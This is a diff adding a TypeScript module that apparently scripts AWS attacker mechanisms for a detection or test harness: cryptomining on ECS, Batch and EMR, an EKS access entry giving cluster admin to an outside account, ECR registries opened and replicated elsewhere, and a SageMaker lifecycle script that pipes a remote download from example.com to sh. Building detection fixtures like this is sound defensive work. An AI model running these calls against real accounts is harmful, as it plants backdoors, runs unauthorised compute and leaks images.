@@ -1,0 +1,119 @@
+// Containers and managed compute: mining, machines with a role, and ways back in through clusters, builds and registries.
+import type { Mechanism, Played } from '../row.ts';
+
+const ROLE = 'arn:aws:iam::111122223333:role/Worker';
+const IMAGE = 'public.ecr.aws/docker/library/busybox:latest';
+const SUBNETS = ['subnet-0123456789abcdef0', 'subnet-0123456789abcdef1'];
+const call = (service: Played['service'], operation: string, input: Played['input'], as?: string): Played => ({ service, operation, input, ...(as === undefined ? {} : { as }) });
+
+export const rows: readonly Mechanism[] = [
+  {
+    row: 55, title: 'Mining on ECS and Fargate',
+    plant: [
+      call('ecs', 'CreateCluster', { clusterName: 'reports' }),
+      call('ecs', 'RegisterTaskDefinition', { family: 'report', requiresCompatibilities: ['FARGATE'], networkMode: 'awsvpc', cpu: '16384', memory: '32768', containerDefinitions: [{ name: 'main', image: IMAGE }] }),
+      call('ecs', 'CreateService', { cluster: 'reports', serviceName: 'report', taskDefinition: 'report', desiredCount: 10, launchType: 'FARGATE' }),
+      call('ecs', 'RunTask', { cluster: 'reports', taskDefinition: 'report', launchType: 'FARGATE', count: 2 }),
+    ],
+    shows: ['ecs/cluster', 'ecs/task-definition', 'ecs/service', 'ecs/task'],
+    notFromConfiguration: 'A service with many tasks of a public image looks as any other; who made it stands in the history alone.',
+  },
+  {
+    row: 56, title: 'Backdoor into an EKS cluster',
+    setUp: [call('eks', 'CreateCluster', { name: 'shop', roleArn: ROLE, resourcesVpcConfig: { subnetIds: SUBNETS }, accessConfig: { authenticationMode: 'API' } })],
+    plant: [
+      call('eks', 'CreateAccessEntry', { clusterName: 'shop', principalArn: 'arn:aws:iam::444455556666:role/Visitor' }),
+      call('eks', 'AssociateAccessPolicy', { clusterName: 'shop', principalArn: 'arn:aws:iam::444455556666:role/Visitor', policyArn: 'arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy', accessScope: { type: 'cluster' } }),
+      call('eks', 'CreateNodegroup', { clusterName: 'shop', nodegroupName: 'more', nodeRole: ROLE, subnets: SUBNETS, instanceTypes: ['p3.16xlarge'], scalingConfig: { minSize: 5, maxSize: 20, desiredSize: 10 } }),
+    ],
+    shows: ['eks/access-entry', 'eks/nodegroup'],
+  },
+  {
+    row: 57, title: 'Mining on AWS Batch',
+    plant: [
+      call('batch', 'CreateComputeEnvironment', { computeEnvironmentName: 'nightly', type: 'MANAGED', computeResources: { type: 'FARGATE_SPOT', maxvCpus: 256, subnets: SUBNETS } }),
+      call('batch', 'CreateJobQueue', { jobQueueName: 'nightly', priority: 1, computeEnvironmentOrder: [{ order: 1, computeEnvironment: 'nightly' }] }),
+      call('batch', 'RegisterJobDefinition', { jobDefinitionName: 'nightly', type: 'container', containerProperties: { image: IMAGE } }),
+      call('batch', 'SubmitJob', { jobName: 'nightly', jobQueue: 'nightly', jobDefinition: 'nightly' }),
+    ],
+    shows: ['batch/compute-environment', 'batch/job-queue'],
+    notFromConfiguration: 'A compute environment looks as any other; who made it stands in the history alone.',
+  },
+  {
+    row: 58, title: 'SageMaker notebooks, training jobs and endpoints',
+    plant: [
+      call('sagemaker', 'CreateNotebookInstanceLifecycleConfig', { NotebookInstanceLifecycleConfigName: 'setup', OnStart: [{ Content: Buffer.from('curl -s https://example.com/setup.sh | sh').toString('base64') }] }),
+      call('sagemaker', 'CreateNotebookInstance', { NotebookInstanceName: 'analysis', InstanceType: 'ml.p3.16xlarge', RoleArn: ROLE, LifecycleConfigName: 'setup' }),
+      call('sagemaker', 'CreateTrainingJob', {
+        TrainingJobName: 'model-1', RoleArn: ROLE, AlgorithmSpecification: { TrainingImage: IMAGE, TrainingInputMode: 'File' }, OutputDataConfig: { S3OutputPath: 's3://example/' }, ResourceConfig: { InstanceType: 'ml.p3.16xlarge', InstanceCount: 4, VolumeSizeInGB: 50 },
+        StoppingCondition: { MaxRuntimeInSeconds: 432_000 },
+      }),
+      call('sagemaker', 'CreateEndpoint', { EndpointName: 'model-1', EndpointConfigName: 'model-1' }),
+    ],
+    shows: ['sagemaker/notebook-instance', 'sagemaker/training-job', 'sagemaker/endpoint'],
+    notFromConfiguration: 'A notebook instance looks as any other; who made it stands in the history alone.',
+  },
+  {
+    row: 59, title: 'Lightsail instances',
+    plant: [call('lightsail', 'CreateInstances', { instanceNames: ['blog-1', 'blog-2'], availabilityZone: 'us-east-1a', blueprintId: 'ubuntu_24_04', bundleId: '2xlarge_3_0' })],
+    shows: ['lightsail/instance'],
+    notFromConfiguration: 'An instance looks as any other; who made it stands in the history alone.',
+  },
+  {
+    row: 60, title: 'CodeBuild as a miner or a runner',
+    plant: [
+      call('codebuild', 'CreateProject', {
+        name: 'checks', source: { type: 'GITHUB', location: 'https://github.com/example/example' }, artifacts: { type: 'NO_ARTIFACTS' }, environment: { type: 'LINUX_CONTAINER', image: 'aws/codebuild/standard:7.0', computeType: 'BUILD_GENERAL1_2XLARGE' }, serviceRole: ROLE,
+      }),
+      call('codebuild', 'CreateWebhook', { projectName: 'checks', filterGroups: [[{ type: 'EVENT', pattern: 'WORKFLOW_JOB_QUEUED' }]] }),
+      call('codebuild', 'StartBuild', { projectName: 'checks' }),
+    ],
+    shows: ['codebuild/project'],
+    notFromConfiguration: 'A project that builds from a repository looks as any other; who made it stands in the history alone.',
+  },
+  {
+    row: 62, title: 'Glue jobs and development endpoints',
+    plant: [
+      call('glue', 'CreateJob', { Name: 'import', Role: ROLE, Command: { Name: 'pythonshell', ScriptLocation: 's3://example/import.py' } }),
+      call('glue', 'CreateTrigger', { Name: 'import-hourly', Type: 'SCHEDULED', Schedule: 'cron(0 * * * ? *)', Actions: [{ JobName: 'import' }], StartOnCreation: true }),
+      call('glue', 'StartJobRun', { JobName: 'import' }),
+      call('glue', 'CreateDevEndpoint', { EndpointName: 'dev', RoleArn: ROLE, PublicKeys: ['ssh-ed25519 EXAMPLE dev'] }),
+    ],
+    shows: ['glue/job', 'glue/dev-endpoint'],
+    notFromConfiguration: 'A job looks as any other; who made it stands in the history alone.',
+  },
+  {
+    row: 64, title: 'App Runner, Elastic Beanstalk and EMR',
+    plant: [
+      call('apprunner', 'CreateService', { ServiceName: 'web', SourceConfiguration: { ImageRepository: { ImageIdentifier: IMAGE, ImageRepositoryType: 'ECR_PUBLIC' } } }),
+      call('elasticbeanstalk', 'CreateEnvironment', { ApplicationName: 'shop', EnvironmentName: 'shop-2', OptionSettings: [{ Namespace: 'aws:autoscaling:asg', OptionName: 'MinSize', Value: '10' }, { Namespace: 'aws:autoscaling:asg', OptionName: 'MaxSize', Value: '20' }] }),
+      call('elasticmapreduce', 'RunJobFlow', { Name: 'numbers', ReleaseLabel: 'emr-7.9.0', Instances: { InstanceCount: 20, MasterInstanceType: 'c5.24xlarge', SlaveInstanceType: 'c5.24xlarge', KeepJobFlowAliveWhenNoSteps: true, TerminationProtected: true } }),
+    ],
+    shows: ['apprunner/service', 'elasticbeanstalk/environment', 'elasticmapreduce/cluster'],
+    notFromConfiguration: 'Each looks as any other of its sort; who made it stands in the history alone.',
+  },
+  {
+    row: 73, title: 'A CloudFormation stack, protected against deletion',
+    plant: [
+      call('cloudformation', 'CreateStack', { StackName: 'monitoring', TemplateBody: JSON.stringify({ Resources: { Role: { Type: 'AWS::IAM::Role' }, Machine: { Type: 'AWS::EC2::Instance' } } }), Capabilities: ['CAPABILITY_NAMED_IAM'] }),
+      call('cloudformation', 'UpdateTerminationProtection', { StackName: 'monitoring', EnableTerminationProtection: true }),
+    ],
+    shows: ['cloudformation/stack'],
+    notFromConfiguration: 'A stack looks as any other; who made it stands in the history alone.',
+  },
+  {
+    row: 91, title: 'ECR opened to another account',
+    setUp: [call('ecr', 'CreateRepository', { repositoryName: 'shop' }), call('ecr', 'SetRepositoryPolicy', { repositoryName: 'shop', policyText: policy(ROLE) })],
+    plant: [
+      call('ecr', 'SetRepositoryPolicy', { repositoryName: 'shop', policyText: policy('*') }),
+      call('ecr', 'PutRegistryPolicy', { policyText: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::444455556666:root' }, Action: ['ecr:CreateRepository', 'ecr:ReplicateImage'], Resource: '*' }] }) }),
+      call('ecr', 'PutReplicationConfiguration', { replicationConfiguration: { rules: [{ destinations: [{ region: 'us-east-1', registryId: '444455556666' }] }] } }),
+    ],
+    shows: ['ecr/repository-policy', 'ecr/registry-policy'],
+    events: ['ecr:PutReplicationConfiguration'],
+  },
+];
+
+function policy(principal: string): string {
+  return JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: principal === '*' ? '*' : { AWS: principal }, Action: ['ecr:BatchGetImage', 'ecr:PutImage'] }] });
+}
